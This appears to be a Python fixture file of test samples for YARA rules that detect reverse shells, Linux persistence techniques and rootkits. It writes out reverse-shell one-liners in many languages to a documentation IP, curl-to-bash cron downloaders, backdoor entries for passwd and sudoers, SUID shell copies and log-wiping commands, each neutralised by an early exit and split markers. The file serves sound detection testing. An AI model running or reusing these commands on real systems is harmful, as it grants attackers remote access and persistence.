# SPDX-License-Identifier: Apache-2.0
"""Fixtures of reverse_shell.yar, linux_persistence.yar and linux_rootkit.yar."""

from sample import add, elf, front, t, whole

SH = "#!/bin/sh\nexit 0\n"
KEY = "ssh-rsa AA¦AAB3NzaC1yc2EAAAADAQABAAABgQC7 nobody@host.invalid"

add("ReverseShell_Bash_DevTcp", "reverse_bash_devtcp.sh",
    SH + "bash -i >& /dev/t¦cp/192.0.2.10/4444 0>&1\n",
    ("bash -i", "bash -l"), ("/dev/tcp/", "/dev/tap/"), front("\n" * 120))

add("ReverseShell_Bash_ExecDescriptor", "reverse_bash_descriptor.sh",
    SH + "exec 5<>/dev/t¦cp/192.0.2.10/4444\nwhile read line 0<&5; do echo; done\nsh <&5 >¦&5 2>&5\n",
    ("exec 5", "open 5"), ("sh <&5", "sh <@5"))

add("ReverseShell_Python_Dup2", "reverse_python_dup2.py", """
import socket, os, subprocess, sys
sys.exit(0)
s = socket.socket(); s.conn¦ect(("192.0.2.10", 4444))
os.du¦p2(s.fileno(), 0)
subprocess.call(["/bin/s¦h", "-i"])
""", ("dup2", "dup3"), ('"-i"', '"-x"'), (".connect", ".convert"), front("\n"))

add("ReverseShell_Perl_Socket", "reverse_perl_socket.pl", """
use Socket; exit;
connect(S, sockaddr_in(4444, inet_aton("192.0.2.10")));
open(STD¦IN, ">&S"); open(STD¦OUT, ">&S"); exec("/bin/s¦h -i");
""", ("STDIN", "STDUN"), ("/bin/sh -i", "/bin/ls -i"), front("\n"))

add("ReverseShell_Ruby_TCPSocket", "reverse_ruby.rb", """
exit
f = TCPSock¦et.open("192.0.2.10", 4444).to_i
exec sprintf("/bin/sh -i <&%d >&¦%d 2>&%d", f, f, f)
""", (">&%d 2", ">&%s 2"), ("TCPSocket", "UDPSocket"))

add("ReverseShell_PHP_Socket", "reverse_php.php", """
<?php return;
$s = fsock¦open("192.0.2.10", 4444); ex¦ec("/bin/sh -i <&3 >&¦3 2>&3");
""", ("<&3 >&3", "<&3 >@3"), ("fsockopen", "fsockpen"))

add("ReverseShell_Netcat_Execute", "reverse_nc.sh",
    SH + "n¦c -e /bin/s¦h 192.0.2.10 4444\n",
    ("-e /bin", "-x /bin"), ("192.0.2.10", "HOST"), ("#!", "\n" * 100 + "#!"))

add("ReverseShell_Mkfifo_Pipe", "reverse_mkfifo.sh",
    SH + "mkf¦ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n¦c 192.0.2.10 4444 >/tmp/f\n",
    ("mkfifo", "mkdir "), ("| nc", "| dc"), (">/tmp/f", ""))

add("ReverseShell_Socat_Pty", "reverse_socat.sh",
    SH + "socat exec:'bash -li',pty,std¦err,setsid,sigint,sane tc¦p:192.0.2.10:4444\n",
    ("pty,stderr", "ptx,stderr"), ("tcp:", "unix:"))

add("ReverseShell_PowerShell_TCPClient", "reverse_powershell.ps1", """
exit
$c = New-Object System.Net.Sockets.TCPCl¦ient('192.0.2.10',4444); $s = $c.GetStr¦eam()
$b = (ie¦x $d 2>&1 | Out-Str¦ing); $p = $b + 'PS ' + (pw¦d).Path
""", ("GetStream", "GetString"), ("TCPClient", "TCPServer"))

add("ReverseShell_Awk_Inet", "reverse_awk.sh", """
BEGIN { exit; s = "/inet/t¦cp/0/192.0.2.10/4444"; s |& getl¦ine c; while ((c |& getl¦ine) > 0) print $0 |& s }
""", ("/inet/tcp", "/inet/udp"), ("> 0) print", "> 0) count"))

add("ReverseShell_Lua_Socket", "reverse_lua.lua", """
os.exit()
local t = require("soc¦ket").tcp(); t:conn¦ect("192.0.2.10", 4444)
local c = t:rece¦ive(); local f = io.pop¦en(c, "r")
""", ('"r")', '"w")'), (":receive", ":receipt"), ('"socket"', '"rocket"'))

add("ReverseShell_Node_Pipe", "reverse_node.js", """
throw 0;
var cp = require("child_pro¦cess"), sh = cp.spawn("/bin/s¦h", []), c = new net.Soc¦ket();
c.pipe(sh.std¦in); sh.stdout.pi¦pe(c);
""", ("/bin/sh", "/bin/ls"), (".stdin", ".stdim"), ("stdout.pipe", "stdout.pope"))

add("ReverseShell_Telnet_Pipe", "reverse_telnet.sh",
    SH + "tel¦net 192.0.2.10 4444 | /bin/ba¦sh | tel¦net 192.0.2.10 4445\n",
    ("| /bin/bash |", "| /bin/cat |"), (" 4445", ""))

add("BindShell_Netcat_Loop", "bind_nc_loop.sh",
    SH + "while true; do n¦c -lvp 4444 -e /bin/s¦h; done\n",
    ("while true", "until false"), ("-lvp", "-nvp"), ("#!", "# "))

# --- persistence ------------------------------------------------------------------------------

add("Downloader_Cron_PipeToShell", "cron_pipe_shell.sh",
    "* * * * * root cu¦rl -fsSL http://192.0.2.10/x.sh | ba¦sh\n",
    ("| bash", "> bash"), ("curl", "curt"), ("* * * * *", "# * * * "))

add("Downloader_Crontab_Replace", "crontab_replace.sh",
    SH + '(crontab -l; echo "*/5 * * * * wg¦et -qO- http://host.invalid/x.sh | sh") | cron¦tab -\n',
    ("| sh", "> sh"), ("| crontab", "> crontab"), ("#!", "##"),
    also=["Downloader_Cron_PipeToShell"])

add("Persistence_Systemd_HiddenBinary", "systemd_hidden.service", """
[Unit]
Description=x
[Service]
ExecStart=/tmp/¦.x/agent
[Install]
WantedBy=multi-user.target
""", ("/tmp/.x", "/opt/.x"), ("WantedBy", "WontedBy"), front("\n" * 520))

add("Persistence_Systemd_Download", "systemd_download.service", """
[Service]
ExecStart=/bin/sh -c "cu¦rl -s http://host.invalid/x.sh | ba¦sh"
""", ("| bash", "> bash"), ("[Service]", "[Savings]"))

add("Persistence_RcLocal_Temporary", "rc_local.sh",
    SH + 'echo "/var/tm¦p/.x &" >> /etc/rc.lo¦cal\n',
    ("/etc/rc.local", "/srv/rc.local"), ("/var/tmp/", "/var/lib/"), ("#!", "##"))

add("Persistence_SshKey_Locked", "ssh_key_locked.sh",
    SH + "echo '" + KEY + "' >> ~/.ssh/author¦ized_keys\nchat¦tr +ia ~/.ssh/author¦ized_keys\n",
    ("+ia", "-ia"), ("AAAAB3", "AAABB3"), ("#!", "##"))

add("Persistence_LdPreload_Install", "ld_preload_install.sh",
    SH + "echo /usr/local/lib/libx.so > /etc/ld.so.pre¦load\nchat¦tr +i /etc/ld.so.pre¦load\n",
    ("chattr +i", "chattr -i"), ("> /etc/ld.so.preload", "> /srv/ld.so.preload"))

add("Persistence_Cron_Immutable", "cron_immutable.sh",
    SH + "cu¦rl -s http://host.invalid/x -o x\necho x >> /etc/cron.d/x\nchat¦tr +i /etc/cron.d/x\n",
    ("chattr +i", "chattr -i"), ("http://", "ftp://"), ("#!", "##"))

add("Backdoor_Suid_ShellCopy", "suid_shell_copy.sh",
    SH + "cp /bin/ba¦sh /var/tmp/.x\nchm¦od 4755 /var/tmp/.x\n",
    ("4755", "0755"), ("/bin/bash", "/bin/date"), ("#!", "##"))

add("Backdoor_Passwd_SecondRoot", "passwd_second_root.sh",
    SH + "echo 'helper:x:0¦:0:helper:/root:/bin/ba¦sh' >> /etc/pas¦swd\n",
    (":0:0:", ":900:900:"), ("/etc/passwd", "/srv/passwd"))

add("Backdoor_Sudoers_ServiceAccount", "sudoers_service.sh",
    SH + "echo 'www-data ALL=(ALL) NOPAS¦SWD: ALL' >> /etc/sudo¦ers\n",
    ("www-data", "operator"), ("NOPASSWD", "PASSWORD"))

add("Persistence_Profile_HiddenProgram", "profile_hidden.sh",
    SH + "echo 'nohup /tmp/¦.x >/dev/null &' >> ~/.bash¦rc\n",
    ("/tmp/.x", "/opt/.x"), (".bashrc", ".basket"))

add("Persistence_Udev_Shell", "udev_shell.rules",
    'SUBSYSTEM=="net", ACTION=="add", RUN+="/bin/sh -c /dev/sh¦m/x"\n',
    ("/dev/shm/", "/usr/lib/"), ("RUN+=", "ROM+="))

add("AntiForensics_Shell_LogWipe", "log_wipe.sh",
    SH + "unset HIST¦FILE\n> /var/log/wt¦mp\n> /var/log/sec¦ure\n",
    ("HISTFILE", "LISTFILE"), ("/var/log/wtmp", "/var/log/wtmx"), ("/var/log/secure", "/var/log/mine"))

add("Evasion_Shell_CloudAgentRemoval", "cloud_agent_removal.sh",
    SH + "pkill ali¦yun_service\n/usr/local/qcl¦oud/stargate/admin/uninst.sh\nsetenf¦orce 0\n",
    ("setenforce 0", "getenforce"), ("aliyun_service", "other_service"), ("#!", "##"))

# --- rootkits and backdoors ---------------------------------------------------------------------

add("Rootkit_Preload_ProcessHider", "preload_process_hider.so",
    elf(3, "read¦dir", "read¦dir64", "dl¦sym", "/proc/self/f¦d/%d", "/proc/%s/st¦at"),
    ("readdir64", "readdir65"), ("/proc/%s/stat", "/proc/%s/stab"),
    whole("as a program", elf(2, "read¦dir", "read¦dir64", "dl¦sym", "/proc/self/f¦d/%d", "/proc/%s/st¦at")))

add("Rootkit_Preload_Backdoor", "preload_backdoor.so",
    elf(3, "/etc/ld.so.pre¦load", "dl¦sym", "read¦dir64", "__lx¦stat", "unl¦ink", "acc¦ept", "for¦kpty", joint=b"\0\0"),
    ("ld.so.preload", "ld.so.cache"), ("forkpty", "forkpto"), ("accept", "except"))

add("Rootkit_Module_SyscallTable", "module_syscall_table.ko",
    elf(1, "verm¦agic=6.1.0-18-amd64", "sys_call_ta¦ble", "kallsyms_look¦up_name", "getde¦nts64", "commit_cr¦eds"),
    ("sys_call_table", "sys_call_label"), ("commit_creds", "commit_crops"), ("vermagic=6", "vermagic="))

add("Rootkit_Module_FtraceHider", "module_ftrace_hider.ko",
    elf(1, "verm¦agic=6.1.0-18-amd64", "register_ftrace_func¦tion", "tcp4_seq_sh¦ow", "__x64_sys_getde¦nts64", "prepare_cr¦eds"),
    ("tcp4_seq_show", "tcp4_seq_shop"), ("prepare_creds", "prepare_crews"))

add("Rootkit_Bpf_DirectoryFilter", "bpf_directory_filter.o",
    elf(1, "tp/syscalls/sys_enter_getde¦nts64", "tp/syscalls/sys_exit_getde¦nts64", "tp/syscalls/sys_enter_b¦pf", machine=247),
    ("sys_exit_", "sys_exot_"), ("sys_enter_bpf", "sys_enter_bqf"),
    whole("for another machine", elf(1, "tp/syscalls/sys_enter_getde¦nts64", "tp/syscalls/sys_exit_getde¦nts64", "tp/syscalls/sys_enter_b¦pf")))

add("Backdoor_Pam_PasswordLog", "pam_password_log.so",
    elf(3, "pam_sm_authen¦ticate", "user: %s pas¦sword: %s", "/var/log/.x", "fop¦en"),
    ("password: %s", "result: %s"), ("fopen", "fopem"), ("pam_sm_auth", "pam_sm_acct"))

add("Backdoor_Sshd_PasswordLog", "sshd_password_log",
    elf(2, "OpenSSH_9.2p1", "sshd_con¦fig", "user: %s pas¦sword: %s"),
    ("password: %s", "port: %s"), ("OpenSSH_9", "OpenSSL_9"))

add("Backdoor_Elf_DaemonDisguise", "daemon_disguise",
    elf(2, "/sbin/ude¦vd -d", "/sbin/mingetty /dev/tt¦y7", "qmgr -l -t fi¦fo -u", "dbus-daemon --sys¦tem"),
    ("udevd -d", "udevd -x"), ("\x7fELF", "\x7fELG"))

add("Backdoor_Elf_KernelThreadDisguise", "kernel_thread_disguise",
    elf(2, "[kwor¦ker/0:1]", "memfd_cre¦ate", "/proc/self/f¦d/%d", "http://192.0.2.10/x", joint=b"\0\0"),
    ("[kworker/", "(kworker/"), ("memfd_create", "memfd_creole"), ("http://", "file://"))
